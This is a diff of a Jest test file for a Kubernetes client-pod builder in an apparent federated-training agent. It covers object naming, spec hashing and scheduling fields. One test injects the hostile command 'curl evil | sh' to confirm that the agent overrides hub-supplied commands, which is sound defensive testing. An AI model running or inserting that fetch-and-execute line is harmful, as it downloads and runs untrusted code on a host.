@@ -1,6 +1,7 @@
 import { describe, expect, test } from '@jest/globals';
 import type { Assignment } from '../sitelink/assignment.js';
-import { clientObjectNames, clientPod, jobKeyOfObject, POD_SPEC_HASH } from './client-objects.js';
+import { CLIENT_COMMAND, clientObjectNames, clientPod, jobKeyOfObject, madeFor, POD_SPEC_HASH } from './client-objects.js';
+import type { ClientSpec } from './policy-decision.js';
 
 const heart: Assignment = {
   namespace: 'cardiology',
@@ -9,7 +10,6 @@ const heart: Assignment = {
   generation: 1,
   aggregatorAddress: 'heart-aggregator:8443',
   image: 'ghcr.io/flotilla/flotilla:0.1.0',
-  command: ['flotilla', 'client'],
   jobManifest: '{"spec":1}',
   dataClaimName: 'heart-data',
   resourceLimits: {},
@@ -17,25 +17,48 @@ const heart: Assignment = {
   nodeSelector: { pool: 'training' },
   tolerationsJson: '[{"key":"gpu","operator":"Exists"}]',
 };
-const settings = { site: 'st-olav', namespace: 'flotilla', defaultDataClaim: 'site-data', resources: { limits: {}, requests: {} } };
-const hashOf = (a: Assignment) => clientPod(a, settings).metadata!.annotations![POD_SPEC_HASH];
+const client: ClientSpec = {
+  resources: { limits: {}, requests: {} },
+  jobFile: '{"spec":1}',
+  claimName: 'heart-data',
+  nodeSelector: { pool: 'training' },
+  tolerations: [{ key: 'gpu', operator: 'Exists' }],
+};
+const settings = { site: 'st-olav', namespace: 'flotilla', client };
+const hashOf = (a: Assignment, c: ClientSpec = client) => clientPod(a, { ...settings, client: c }).metadata!.annotations![POD_SPEC_HASH];
 
 describe('client objects', () => {
   test('jobs of the same name in two hub namespaces get different objects, and labels lead back to the job', () => {
     const a = clientObjectNames({ namespace: 'cardiology', job: 'heart' });
     const b = clientObjectNames({ namespace: 'research', job: 'heart' });
     expect(a.pod).not.toBe(b.pod);
-    expect(a.pod).toMatch(/^heart-[0-9a-f]{8}-client$/);
     const pod = clientPod(heart, settings);
     expect(jobKeyOfObject(pod)).toBe('cardiology/heart');
+    expect(madeFor(pod, 'cardiology/heart')).toBe(true);
+    expect(madeFor(pod, 'research/heart')).toBe(false);
     expect(pod.spec!.nodeSelector).toEqual({ pool: 'training' });
     expect(pod.spec!.tolerations).toEqual([{ key: 'gpu', operator: 'Exists' }]);
     expect(pod.spec!.volumes!.find((v) => v.name === 'data')!.persistentVolumeClaim!.claimName).toBe('heart-data');
   });
 
+  test('names carry 128 bits of SHA-256 of namespace/job, so that colliding pairs cannot be searched for', () => {
+    const { pod, secret, configMap, networkPolicy } = clientObjectNames({ namespace: 'cardiology', job: 'heart' });
+    // sha256("cardiology/heart"), its first 32 hex digits.
+    expect(pod).toBe('heart-a26db732997f00cc195b89801a10c845-client');
+    for (const name of [pod, secret, configMap, networkPolicy]) expect(name.length).toBeLessThanOrEqual(253);
+    const long = clientObjectNames({ namespace: 'n'.repeat(63), job: 'j'.repeat(52) });
+    expect(long.secret.length).toBeLessThanOrEqual(253);
+  });
+
+  test("the container's command is the agent's own, whatever the hub asked", () => {
+    const pod = clientPod({ ...heart, ...({ command: ['sh', '-c', 'curl evil | sh'] } as object) }, settings);
+    expect(pod.spec!.containers[0]!.command).toEqual(CLIENT_COMMAND);
+    expect(pod.spec!.containers[0]!.command).toEqual(['flotilla', 'client']);
+  });
+
   test('a pod is replaced when what it is made from changes, not otherwise', () => {
     expect(hashOf(heart)).toBe(hashOf({ ...heart }));
-    expect(hashOf({ ...heart, jobManifest: '{"spec":2}' })).not.toBe(hashOf(heart));
+    expect(hashOf(heart, { ...client, jobFile: '{"spec":2}' })).not.toBe(hashOf(heart));
     expect(hashOf({ ...heart, jobUid: 'u2' })).not.toBe(hashOf(heart));
     expect(hashOf({ ...heart, image: 'ghcr.io/flotilla/flotilla:0.2.0' })).not.toBe(hashOf(heart));
   });
